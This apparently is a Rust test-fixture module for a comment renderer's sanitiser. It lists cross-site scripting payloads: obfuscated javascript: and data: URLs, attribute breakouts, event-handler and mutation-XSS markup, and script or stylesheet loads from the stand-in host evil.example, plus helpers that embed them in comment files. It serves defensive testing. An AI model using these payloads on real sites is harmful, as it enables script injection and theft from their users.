//! What somebody might write to run a script on the page. Each would call `pwn()`, go to `evil.example`, or reach out
//! of its comment.

#![allow(dead_code, reason = "each test program uses a part of the list")]

use serde_json::json;

/// Addresses that a link must not lead to, or that try to end their attribute.
pub(crate) const ADDRESSES: &[&str] = &[
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    " javascript:pwn()",
    "\u{1}javascript:pwn()",
    "&#1;javascript:pwn()",
    "&#0;javascript:pwn()",
    "java\tscript:pwn()",
    "java&Tab;script:pwn()",
    "java&#x0A;script:pwn()",
    "java&#13;script:pwn()",
    "java\\\nscript:pwn()",
    "&#106;avascript:pwn()",
    "&#x6A&#x61vascript:pwn()",
    "&#x000006A;avascript:pwn()",
    "javascript&colon;pwn()",
    "javascript&#58;pwn()",
    "javascript&#x3a;pwn()",
    "java\u{ad}script:pwn()",
    "java\u{200b}script:pwn()",
    "\u{feff}javascript:pwn()",
    "\u{a0}javascript:pwn()",
    "\u{2028}javascript:pwn()",
    "ｊavascript:pwn()",
    "ſavascript:pwn()",
    "javascript://https://a.example/%0Apwn()",
    "view-source:javascript:pwn()",
    "feed:javascript:pwn()",
    "vbscript:pwn()",
    "livescript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:evil.example",
    "http:\\\\evil.example",
    "?onload=pwn()",
    "#comment-x",
    "https://a.example/\"onmouseover=\"pwn()",
    "https://a.example/'onfocus='pwn()'autofocus='",
    "https://a.example/&quot;onmouseover=&quot;pwn()",
    "https://a.example/%22onmouseover=%22pwn()",
    "https://a.example/><script>pwn()</script>",
    "https://a.example/`onclick=pwn()`",
    "https://a.example/ onclick=pwn()",
    "https://\u{202e}elpmaxe.live",
    "mailto:x@a.example?subject=\"><script>pwn()</script>",
    "mailto:\"onclick=pwn()\"@a.example",
];

/// Where an address can stand; `@` is its place.
const LINKS: &[&str] = &[
    "[x](@)",
    "[x](<@>)",
    "<@>",
    "![x](@)",
    "[![x](@)](https://a.example)",
    "[![x](https://a.example)](@)",
    "[x](https://a.example \"@\")",
    "[x][r]\n\n[r]: @",
    "[x][r]\n\n[r]: <@> '@'",
    "[x](https://a.example)[y](@)",
    "*[x*](@)",
    "a[^1]\n\n[^1]: [x](@)",
    "<a href=\"@\">x</a>",
    "<a href=@>x</a>",
    "<img src=\"@\" onerror=\"pwn()\">",
    "<iframe src=\"@\"></iframe>",
    "<object data=\"@\"></object>",
    "<form action=\"@\"><input type=submit></form>",
    "<svg><a xlink:href=\"@\"><text>x</text></a></svg>",
    "| a |\n|---|\n| [x](@) |",
    "> [x](@)",
    "- [x](@)",
    "~~[x](@)~~",
    "`[x](@)`",
];

/// Markup of every kind that could be taken for HTML.
pub(crate) const MARKUP: &[&str] = &[
    "<script>pwn()</script>",
    "<ScRiPt >pwn()</sCrIpT >",
    "<script\n>pwn()</script\n>",
    "<script/x>pwn()</script>",
    "<<script>pwn();//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=\"https://evil.example/x.js\" async>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "\\<script>pwn()\\</script>",
    "<img src=x onerror=pwn()>",
    "<img src=\"https://evil.example/x.png\">",
    "<img\nsrc=x\nonerror=pwn()\n>",
    "<img src=x onerror\u{c}=pwn()>",
    "<svg onload=pwn()>",
    "<svg/onload=pwn()//",
    "<svg><script>pwn()</script></svg>",
    "<svg><style><img src=x onerror=pwn()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<body onload=pwn()>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<marquee onstart=pwn()>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<style>@import 'https://evil.example/x';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<embed src=https://evil.example/x>",
    "<button onclick=pwn()>x</button>",
    "<template><script>pwn()</script></template>",
    "<noscript><p title=\"</noscript><script>pwn()</script>\">",
    "<textarea></textarea><script>pwn()</script>",
    "<title></title><script>pwn()</script>",
    "</title><script>pwn()</script>",
    "<plaintext>",
    "<xmp><script>pwn()</script></xmp>",
    "<!--><script>pwn()</script>-->",
    "<!--->--><script>pwn()</script>",
    "<!-- --!><script>pwn()</script> -->",
    "--><script>pwn()</script>",
    "<![CDATA[<script>pwn()</script>]]>",
    "]]><script>pwn()</script>",
    "<?xml version='1.0'?><script>pwn()</script>",
    "<?php pwn() ?>",
    "<!DOCTYPE x [<!ENTITY y '<script>pwn()</script>'>]>&y;",
    "</li></ol></section></article></main><script>pwn()</script>",
    "</body></html><script>pwn()</script>",
    "</script><script>pwn()</script>",
    "\u{2028}<script>pwn()</script>\u{2029}",
    "<scr\u{0}ipt>pwn()</scr\u{0}ipt>",
    "<div id=comments><div id=main></div></div>",
    "<a name=comments id=comment-x>x</a>",
    "```x\" onmouseover=\"pwn()\ncode\n```",
    "```x'><script>pwn()</script>\ncode\n```",
    "```html\n<script>pwn()</script>\n```",
    "    <script>pwn()</script>",
    "``<script>pwn()</script>``",
    "# <script>pwn()</script>",
    "# x {#main onclick=pwn() .y}",
    "Setext<script>\n===",
    "| <script>pwn()</script> | `|<b>` |\n|:--|--:|\n| </td></tr></table><script>pwn()</script> | \\| |",
    "*<b>*</b>",
    "**[<i>x</i>](https://a.example)**",
    "[<script>pwn()</script>](https://a.example)",
    "![<script>pwn()</script>](https://a.example/x.png)",
    "[x]: javascript:pwn()\n\n[x] and [x][] and [y][x]",
    "[\"onmouseover=\"pwn()]: https://a.example\n\n[\"onmouseover=\"pwn()]",
    "x[^<script>pwn()</script>]\n\n[^<script>pwn()</script>]: <script>pwn()</script>",
    "- [ ] <script>pwn()</script>\n- [x] x",
    "> [!WARNING]\n> <script>pwn()</script>",
    "{{ 7 * 7 }}{% include \"base.html\" %}{# x #}",
    "\u{202e}txt.exe\u{2066}\u{2067}\u{2069}\u{202c}",
    "`\u{202e}abc`",
    "&rlm;&#x202e;&#8238;abc",
    "a&#0;b&#1;c&#x7f;d&#x85;e&#xfffe;f",
    "www.evil.example and pwn@evil.example",
    "&\"'<>`=/",
];

/// All of them, each as the text of a comment.
pub(crate) fn all() -> Vec<String> {
    let links = LINKS.iter().flat_map(|form| ADDRESSES.iter().map(|address| form.replace('@', address)));
    links.chain(MARKUP.iter().map(|text| (*text).to_owned())).collect()
}

/// A comments file in which each text is a comment's body, and a short one is a name and an address as well.
pub(crate) fn comments_file<S: AsRef<str>>(bodies: &[S]) -> String {
    let comments = bodies.iter().enumerate().map(|(number, body)| {
        let body = body.as_ref();
        // JSON is YAML, and says every text.
        let (name, url) = (MARKUP[number % MARKUP.len()], ADDRESSES[number % ADDRESSES.len()]);
        json!({ "id": format!("c{number}"), "author": name, "url": url, "date": "2012-04-18", "body": format!("{body}\n\nEnd.") })
    });
    comments.map(|comment| format!("- {comment}\n")).collect()
}

/// The same as the list in a post, where the name is in the text.
pub(crate) fn list<S: AsRef<str>>(bodies: &[S]) -> String {
    let mut list = String::from("\n## Comments\n");
    for (number, body) in bodies.iter().enumerate() {
        let address = ADDRESSES[number % ADDRESSES.len()];
        let body = body.as_ref().replace('\n', "\n  ");
        list.push_str(&format!("\n- **[Dana](<{address}>)** · 2012-04-18\n\n  {body}\n\n  End.\n"));
    }
    list
}
